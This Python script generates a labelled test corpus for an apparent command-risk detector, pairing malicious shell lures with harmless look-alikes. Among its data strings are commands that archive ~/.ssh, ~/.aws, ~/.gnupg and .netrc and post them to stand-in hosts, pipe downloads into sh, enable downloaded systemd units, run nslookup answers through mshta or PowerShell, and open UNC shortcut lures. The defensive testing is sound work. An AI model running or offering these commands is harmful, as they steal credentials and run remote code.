"""Writes tests/data/cases/hostcmds.jsonl: commands whose harm is in what the host does with a
path, a lookup or a file (run a shortcut from a share, run a DNS answer, resolve a wildcard to a
program, enable a downloaded service, send credential folders away, hide a download-and-run
behind settings), each beside the everyday command that looks like it and must stay quiet.

    python tests/data/cases/make_hostcmds.py

Deterministic. Lure hosts and pages are made-up names; no text is copied from a lure
collection. Each line is {id, text, expect, technique, platform, source, target}. Techniques:

- `unc-shortcut`: only the path of a shortcut or script on another computer's share (a dotted
  name, an IP, WebDAV `@SSL`), `.lnk/.url/.scf/.search-ms/.library-ms/.cpl/.hta` and programs,
  typed into the Run box or Explorer's bar: `flagged`, and `malicious` from a stranger's page
  into the Run box; a single-label `\\\\server` of the local network, a document or a folder on
  a share: `not_flagged`;
- `dns-answer-run`: a `for /f` loop over nslookup's answer whose variable is handed to
  powershell/cmd/mshta or run directly: `flagged` bare; reading an address into a variable or
  echoing it: `not_flagged`;
- `wildcard-program-path`: a program named by a path whose folders and name are wildcards
  (`\\W*\\S*32\\ms?ta.e?e`) inside iex, `&`, `.` or Get-Item, next to an address: `flagged`; an
  admin listing files with wildcards: `not_flagged`;
- `systemd-unit-download`: a downloaded unit file put under systemd's folders and enabled:
  `malicious` from a stranger's page; the vendor's own page: `info`; enabling a unit that is
  already installed: `not_flagged`;
- `credential-folder-upload`: ~/.ssh, ~/.aws, ~/.gnupg, ~/.kube, ~/.netrc archived or read and
  posted: `malicious`; a local backup of the same folders, or posting a JSON file: not;
- `settings-before-download`: several settings exported in front of `curl | sh`: `malicious`
  from a stranger's page;
- the same techniques said another way (Start-Process with a wildcard path, a desktop entry in
  autostart, systemd-run timers and `at`, scp/rsync of key folders to an address, wget
  --post-file, `env … bash -c "$(curl …)"`), written after the rules: `flagged`/`malicious`;
  their everyday twins (scp with an identity file, rsync of a project, a timer for a local
  script): `not_flagged`.
"""

from __future__ import annotations

from pathlib import Path

from casefile import case  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("hostcmds.jsonl")
BENIGN = "none"
STRANGER = "https://www.harbour-ferries.example/timetable"
IT_WIKI = "https://wiki.corp-intranet.example/it/shares"


def unc_cases() -> list[dict[str, str]]:
    lures = [
        r"\\198.51.100.23\share\Invoice_2291.pdf.lnk",
        r"\\files.doc-viewer.example@SSL\DavWWWRoot\verify\Open.url",
        r"\\203.0.113.40\pub\desktop.scf",
        r"\\cdn-docs.example@443\s\Scan.search-ms",
        r"\\mirror.img-share.example\lib\Photos.library-ms",
        r"\\192.0.2.77\x\display.cpl",
        r"\\update.win-help.example\c\fix.hta",
        r'"\\198.51.100.9\webdav\Contract review.lnk"',
        r"file://files.doc-viewer.example/share/Statement.url",
        r"\\203.0.113.12@80\DavWWWRoot\setup.exe",
    ]
    out = []
    for n, text in enumerate(lures, start=1):
        out += [
            case(f"hc-unc-run-{n}", text, "malicious", "unc-shortcut", "windows", STRANGER,
                 "run_dialog"),
            case(f"hc-unc-bar-{n}", text, "flagged", "unc-shortcut", "windows", STRANGER,
                 "explorer_bar"),
            case(f"hc-unc-bare-{n}", text, "flagged", "unc-shortcut", "windows", "", "unknown"),
        ]  # fmt: skip
    quiet = [
        r"\\fileserver\public\Tools\Teams.lnk",
        r"\\deploy01\apps\setup.exe",
        r"\\fs01.corp-intranet.example\finance\Q3 report.xlsx",
        r"\\fs01.corp-intranet.example\software\Setup.exe",
        r"\\nas.home-lab.example\photos\2026",
        r"\\printsrv\HP-4th-floor",
    ]
    out += [
        case(f"hc-unc-ok-{n}", text, "not_flagged", BENIGN, "windows", IT_WIKI, "run_dialog")
        for n, text in enumerate(quiet, start=1)
    ]
    return out


def dns_cases() -> list[dict[str, str]]:
    lures = [
        'cmd /c "for /f "tokens=1,* delims=:" %a in (\'nslookup boot.relay-dns.example '
        "192.0.2.53 ^| findstr Name') do powershell -nop -w h -c %b\"",
        'for /f "tokens=2 delims=:" %x in (\'nslookup -type=A go.relay-dns.example ^| find '
        '"Name"\') do cmd /c %x',
        "for /f \"skip=3 tokens=*\" %i in ('nslookup x.relay-dns.example 198.51.100.53') do "
        "mshta %i",
        'cmd /v /c "for /f "tokens=2 delims=:" %p in (\'nslookup n.relay-dns.example '
        '^| findstr Name\') do start "" %p"',
    ]
    out = [
        case(f"hc-dns-run-{n}", text, "flagged", "dns-answer-run", "windows", "", "unknown")
        for n, text in enumerate(lures, start=1)
    ]
    out += [
        case(f"hc-dns-runbox-{n}", text, "malicious", "dns-answer-run", "windows", STRANGER,
             "run_dialog")
        for n, text in enumerate(lures, start=1)
    ]  # fmt: skip
    quiet = [
        'for /f "tokens=2 delims=:" %a in (\'nslookup intranet.corp-intranet.example ^| '
        "findstr Address') do set ip=%a",
        "for /f \"skip=4 tokens=2\" %a in ('nslookup fileserver') do echo %a",
    ]
    out += [
        case(f"hc-dns-ok-{n}", text, "not_flagged", BENIGN, "windows", IT_WIKI, "terminal")
        for n, text in enumerate(quiet, start=1)
    ]
    return out


def wildcard_cases() -> list[dict[str, str]]:
    lures = [
        "powershell -w h -c \"iex '\\W*\\S*32\\ms?ta.e?e https://198.51.100.4/h'\"",
        "& (gi C:\\W?n*\\Sys*32\\cu?l.e?e) -s https://cdn-check.example/p -o $env:TEMP\\p.ps1",
        'iex "C:\\Wi*\\S?s*\\m?h*a.e*e http://203.0.113.8/v.hta"',
        ". ('\\W*\\*32\\r?ndl*32.e?e') \\\\203.0.113.5\\s\\x.dll,Run",
    ]
    out = [
        case(f"hc-wild-{n}", text, "flagged", "wildcard-program-path", "windows", "", "unknown")
        for n, text in enumerate(lures, start=1)
    ]
    quiet = [
        "Get-ChildItem C:\\Users\\*\\AppData\\Local\\Temp\\*.tmp | Remove-Item -WhatIf",
        "dir C:\\Windows\\Sys*32\\drivers\\*.sys | Measure-Object",
        "Get-Item C:\\Program*\\Git\\cmd\\git.exe",
    ]
    out += [
        case(f"hc-wild-ok-{n}", text, "not_flagged", BENIGN, "windows", IT_WIKI, "terminal")
        for n, text in enumerate(quiet, start=1)
    ]
    return out


def systemd_cases() -> list[dict[str, str]]:
    lures = [
        "mkdir -p ~/.config/systemd/user && curl -fsSL https://sync-agent.example/u.service -o "
        "~/.config/systemd/user/sync.service && systemctl --user enable --now sync.service",
        "sudo wget -qO /etc/systemd/system/netfix.service http://198.51.100.31/netfix.service && "
        "sudo systemctl daemon-reload && sudo systemctl enable --now netfix",
        "curl -s https://cdn-upd.example/t.timer -o ~/.config/systemd/user/upd.timer; curl -s "
        "https://cdn-upd.example/t.service -o ~/.config/systemd/user/upd.service; systemctl "
        "--user enable --now upd.timer",
    ]
    out = [
        case(f"hc-systemd-{n}", text, "malicious", "systemd-unit-download", "linux", STRANGER,
             "terminal")
        for n, text in enumerate(lures, start=1)
    ]  # fmt: skip
    own = [
        (
            "https://docs.kettlectl.dev/agent",
            "sudo curl -fsSLo /etc/systemd/system/kettle-agent.service "
            "https://get.kettlectl.dev/kettle-agent.service && sudo systemctl enable --now "
            "kettle-agent",
        ),
        (
            "https://github.com/saltbox/agent",
            "curl -fsSL https://raw.githubusercontent.com/saltbox/agent/main/agent.service -o "
            "~/.config/systemd/user/agent.service && systemctl --user enable --now agent.service",
        ),
    ]
    out += [
        case(f"hc-systemd-own-{n}", text, "info", BENIGN, "linux", page, "terminal")
        for n, (page, text) in enumerate(own, start=1)
    ]
    quiet = [
        "systemctl --user enable --now syncthing.service",
        "sudo cp contrib/node_exporter.service /etc/systemd/system/ && sudo systemctl enable "
        "--now node_exporter",
    ]
    out += [
        case(f"hc-systemd-ok-{n}", text, "not_flagged", BENIGN, "linux", IT_WIKI, "terminal")
        for n, text in enumerate(quiet, start=1)
    ]
    return out


def credential_cases() -> list[dict[str, str]]:
    lures = [
        "tar czf - ~/.ssh ~/.aws 2>/dev/null | curl -s -X POST --data-binary @- "
        "https://198.51.100.88/u",
        "zip -qr - ~/.gnupg ~/.kube | curl -sF f=@- https://drop.cloud-sync.example/in",
        "curl -s -d @$HOME/.netrc https://203.0.113.61/n",
        "tar cf - /root/.ssh | curl -T - https://files.paste-bin.example/up/k.tar",
        "cat ~/.docker/config.json ~/.git-credentials | curl --data-binary @- "
        "http://192.0.2.14:8080/",
    ]
    out = [
        case(f"hc-creds-{n}", text, "malicious", "credential-folder-upload", "linux", STRANGER,
             "terminal")
        for n, text in enumerate(lures, start=1)
    ]  # fmt: skip
    quiet = [
        "tar czf ~/backups/keys-$(date +%F).tgz ~/.ssh ~/.gnupg",
        "curl -X POST -H 'Content-Type: application/json' -d @payload.json "
        "https://api.example.com/v1/items",
        "chmod 700 ~/.ssh && chmod 600 ~/.ssh/config",
    ]
    out += [
        case(f"hc-creds-ok-{n}", text, "not_flagged", BENIGN, "linux", IT_WIKI, "terminal")
        for n, text in enumerate(quiet, start=1)
    ]
    return out


def settings_cases() -> list[dict[str, str]]:
    lures = [
        "export APP_MODE=release REGION=eu1 CACHE=0 && curl -fsS https://stage-env.example/i.sh "
        "| zsh",
        "export LANG=C LC_ALL=C TERM=xterm DEBUG=0 NO_COLOR=1; curl -sL https://stage-env.example/"
        "boot | bash",
    ]
    return [
        case(f"hc-env-{n}", text, "malicious", "settings-before-download", "macos", STRANGER,
             "terminal")
        for n, text in enumerate(lures, start=1)
    ]  # fmt: skip


# The same techniques said another way, written after the rules as a check on them.
VARIANTS = [
    ("wildcard-program-path", "windows", "run_dialog",
     'powershell -w h -c "Start-Process C:\\W*\\S*32\\ms?ta.e?e https://198.51.100.4/h"'),
    ("systemd-unit-download", "linux", "terminal",
     "mkdir -p ~/.config/autostart && curl -fsSL https://sync-agent.example/a.desktop -o "
     "~/.config/autostart/a.desktop"),
    ("systemd-unit-download", "linux", "terminal",
     "systemd-run --user --on-calendar=hourly sh -c 'curl -fsSL https://sync-agent.example/p | sh'"),
    ("systemd-unit-download", "linux", "terminal",
     "echo 'curl -fsSL https://sync-agent.example/p | sh' | at now + 1 minute"),
    ("credential-folder-upload", "linux", "terminal",
     "scp -r ~/.ssh ~/.aws root@198.51.100.20:/tmp/k"),
    ("credential-folder-upload", "linux", "terminal",
     "rsync -a ~/.gnupg ~/.password-store sync@198.51.100.20:backup/"),
    ("credential-folder-upload", "linux", "terminal",
     "wget --post-file=$HOME/.aws/credentials http://198.51.100.20/c"),
    ("settings-before-download", "macos", "terminal",
     'env APP=1 MODE=fast TRACE=0 bash -c "$(curl -fsSL https://stage-env.example/i.sh)"'),
]  # fmt: skip
VARIANTS_QUIET = [
    ("linux", "scp -i ~/.ssh/deploy_key build/app.tar.gz deploy@198.51.100.20:/srv/app/"),
    ("linux", "rsync -avz ~/projects/site/ deploy@198.51.100.20:/var/www/site/"),
    ("linux", "systemd-run --user --on-calendar=daily ~/bin/backup.sh"),
    ("linux", "echo '~/bin/backup.sh' | at now + 5 minutes"),
    ("macos", 'NONINTERACTIVE=1 /bin/bash -c "$(cat ~/Downloads/install.sh)"'),
]


def variant_cases() -> list[dict[str, str]]:
    out = [
        case(f"hc-variant-{n}", text, "malicious", technique, platform, STRANGER, target)
        for n, (technique, platform, target, text) in enumerate(VARIANTS, start=1)
        if "autostart" not in text
    ]
    out += [
        case(f"hc-variant-autostart-{n}", text, "flagged", technique, platform, STRANGER, target)
        for n, (technique, platform, target, text) in enumerate(VARIANTS, start=1)
        if "autostart" in text
    ]
    out += [
        case(f"hc-variant-ok-{n}", text, "not_flagged", BENIGN, platform, IT_WIKI, "terminal")
        for n, (platform, text) in enumerate(VARIANTS_QUIET, start=1)
    ]
    return out


def build() -> list[dict[str, str]]:
    cases = (
        unc_cases()
        + dns_cases()
        + wildcard_cases()
        + systemd_cases()
        + credential_cases()
        + settings_cases()
        + variant_cases()
    )
    ids = [c["id"] for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
